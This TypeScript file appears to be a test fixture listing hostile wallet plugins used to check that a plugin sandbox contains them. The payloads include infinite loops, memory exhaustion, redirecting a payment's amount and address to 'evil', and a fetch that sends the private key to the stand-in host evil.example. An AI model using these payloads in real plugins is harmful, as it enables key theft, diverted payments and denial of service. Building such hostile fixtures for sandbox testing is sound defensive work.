import { observerHookNames } from '../../kernel/observer-api.ts'
import { bundled } from './cell-stage.ts'
import { TOLLAR } from './tollar-source.ts'

const policy = (body: string): string =>
  `definePlugin({ kind: 'policy', id: 'bad', apply({ hooks, disk }) { hooks.beforeSign.tapPromise('bad', async spend => { ${body} }) } })`

const observer = (body: string): string =>
  `definePlugin({ kind: 'observer', id: 'bad', apply({ hooks }) { for (const name of ${JSON.stringify(observerHookNames)}) hooks[name].tap('bad', snapshot => { ${body} }) } })`

/** A hostile plugin of another kind than rates, and how a payment with it ends. */
export interface HostileKind {
  readonly name: string
  readonly kind: 'currency' | 'observer' | 'policy'
  readonly code: () => Promise<string>
  /** How the payment of the tollars ends; nothing leaves unless it is `paid`. */
  readonly payment: RegExp | 'paid'
}

const currency = (
  name: string,
  payment: HostileKind['payment'],
  ...changes: readonly [string, string][]
): HostileKind => ({
  ...{ name, kind: 'currency', payment },
  code: () => {
    const source = changes.reduce((text, [from, to]) => {
      if (!text.includes(from)) throw new Error(`${from} is not in the source`)
      return text.replace(from, to)
    }, TOLLAR)
    return bundled(source)
  }
})

const other = (
  kind: 'observer' | 'policy',
  name: string,
  payment: HostileKind['payment'],
  code: string
): HostileKind => ({
  ...{ name, kind, payment },
  code: async () => code
})

const SIGNS = 'const text = JSON.stringify(tx.otherParams)'

/** Policies, observers and currencies that spoil a payment of tollars. */
export const HOSTILE_KINDS: readonly HostileKind[] = [
  other('policy', 'spins when it is asked', /kept its thread busy/, policy('for (;;);')),
  other(
    'policy',
    'eats memory when it is asked',
    /more memory than a cell may/,
    policy('const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1))')
  ),
  other('policy', 'throws what is no error', /./, policy('throw null')),
  other(
    'policy',
    'changes the payment that it is shown',
    'paid',
    policy("spend.nativeAmount = '1'; try { spend.spendTargets[0].publicAddress = 'evil' } catch {}")
  ),
  other('observer', 'spins in every hook', 'paid', observer('for (;;);')),
  other('observer', 'throws in every hook', 'paid', observer("throw new Error('no')")),
  other(
    'observer',
    'prints everything that it sees',
    'paid',
    observer('console.log(JSON.stringify(snapshot))')
  ),
  other(
    'observer',
    'floods the log from every hook',
    'paid',
    observer("for (let n = 0; n < 500; n++) console.log('x'.repeat(900))")
  ),
  currency('signs another amount', /Signed|differs|otherwise|sign/i, [
    SIGNS,
    "tx = { ...tx, nativeAmount: nativeAmount('-4000') }; const text = JSON.stringify({ to: 'evil', amount: '4000' })"
  ]),
  currency('spins when it signs', /kept its thread busy/, [
    SIGNS,
    'for (;;); const text = JSON.stringify(tx.otherParams)'
  ]),
  currency('brings its process down when it signs', /more memory|process down/, [
    SIGNS,
    'new Array(2 ** 27).fill(0); await new Promise(() => {}); const text = JSON.stringify(tx.otherParams)'
  ]),
  currency('throws its key', /./, [SIGNS, "throw new Error('key ' + tollarKey); const text = ''"]),
  currency('sends its key to a server', 'paid', [
    SIGNS,
    "await io.fetch('https://evil.example/' + tollarKey).catch(() => {}); await io.fetch('https://ledger.example.evil.example/' + tollarKey).catch(() => {}); const text = JSON.stringify(tx.otherParams)"
  ]),
  currency('reports after it was killed, and floods', 'paid', [
    'async killEngine() { isAlive = false }',
    "async killEngine() { setTimeout(() => { for (let n = 0; n < 100; n++) callbacks.onTokenBalanceChanged(null, '1') }, 1) }"
  ])
]
